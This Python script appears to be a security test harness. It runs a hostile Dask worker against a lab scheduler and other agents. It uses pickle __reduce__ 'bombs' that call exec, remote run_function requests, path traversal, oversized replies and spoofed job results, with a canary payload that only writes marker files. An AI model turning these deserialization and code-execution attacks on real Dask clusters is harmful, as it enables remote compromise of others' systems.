"""An agent under somebody else's control: a worker of Dask that attacks the lab, the scheduler and other agents.

Run as `agent.py PLACE SCHEDULER VICTIM-FILE OPTIONS`: what it has tried is written to PLACE/tried, and whoever
unpickles one of its objects leaves a file in PLACE/ran, with the command of the process that did.
"""

from __future__ import annotations

import asyncio
import json
import os
import runpy
import sys
import threading
import time
from collections.abc import Callable
from importlib import import_module
from pathlib import Path
from typing import Any

PLACE, SCHEDULER, VICTIM = Path(sys.argv[1]), sys.argv[2], Path(sys.argv[3])
CODE = f"import os; open('{PLACE}/ran/' + str(os.getpid()), 'w').write(open('/proc/self/cmdline').read())"


REGISTER = {
    "op": "register-worker", "address": "tls://127.0.0.1:1", "status": "init", "server_id": "s", "nthreads": 1,
    "name": "tls://127.0.0.1:1", "now": 1.0, "memory_limit": 0, "pid": 1, "local_directory": "/tmp", "versions": {},
    "services": {}, "nanny": None, "metrics": {}, "extra": {}, "stimulus_id": "z",
}  # fmt: skip


class Bomb:
    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return exec, (CODE,)


class BombError(Exception):
    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return exec, (CODE,)


def tried(what: str, result: str) -> None:
    with (PLACE / "tried").open("a") as file:
        file.write(json.dumps([what, result]) + "\n")


def lies(job: Any) -> Any:
    """The answer to a run: another lie each time."""
    number = len(list(PLACE.glob("run-*")))
    (PLACE / f"run-{number}").touch()
    outcome = {"status": "done", "elapsed_s": 1.0, "exit_code": 0, "reason": None, "log_tail": None}
    document: dict[str, Any] = {"run_id": job.run.run_id, "outcome": outcome, "files": {"samples.parquet": 100}}
    kind = ("object", "exception", "path", "huge", "other run", "no piece", "enum")[number % 7]
    tried(kind, "answered")
    if kind == "object":
        return Bomb()
    if kind == "exception":
        raise BombError
    if kind == "path":
        document["files"] = {"../../../escaped": 4}
    if kind == "huge":
        return b"x" * (64 << 20)
    if kind == "other run":
        document["run_id"] = "0" * 16
    if kind == "enum":
        return {"__Enum__": True, "__module__": "distributed.utils_test", "__name__": "x", "name": "y"}
    return json.dumps(document).encode()


async def message(address: str, security: Any, content: dict[str, Any]) -> str:
    """What comes of a message of this agent to somebody."""
    try:
        comm = await import_module("distributed.comm").connect(
            address, timeout=3, **security.get_connection_args("worker")
        )
        await comm.write(content)
        return f"answered {await asyncio.wait_for(comm.read(), 3)}"
    except (TimeoutError, OSError) as error:
        return f"refused {type(error).__name__}"


async def attack() -> None:
    own = import_module("distributed").Security()
    dumps = import_module("distributed.protocol.pickle").dumps
    bomb = import_module("distributed.protocol.serialize").ToPickle(Bomb())
    function = {"op": "run_function", "function": dumps(exec), "args": dumps((CODE,)), "wait": True}
    for what, content in (
        ("run on the scheduler", function),
        ("be a client", {"op": "register-client", "client": "c", "versions": {}}),
        ("an object in a message", {"op": "heartbeat_worker", "address": bomb}),
        ("gather", {"op": "gather", "keys": ["x"]}),
        ("another host", {**REGISTER, "resources": {"host-good": 1}}),
    ):
        tried(what, await message(SCHEDULER, own, content))
    while not VICTIM.exists():
        await asyncio.sleep(0.1)
    tried("run on another agent", await message(VICTIM.read_text(), own, {**function, "op": "run"}))


def main() -> None:
    from vtare.fleet import agent_tasks

    agent_tasks.make_run = lies
    if not (PLACE / "tried").exists():
        threading.Thread(target=lambda: asyncio.run(attack()), daemon=True).start()
        time.sleep(0.1)
    os.environ["DASK_DISTRIBUTED__LOGGING__DISTRIBUTED"] = "error"
    sys.argv[1:] = sys.argv[4:]
    runpy.run_module("distributed.cli.dask_worker", run_name="__main__", alter_sys=True)


if __name__ == "__main__":
    main()
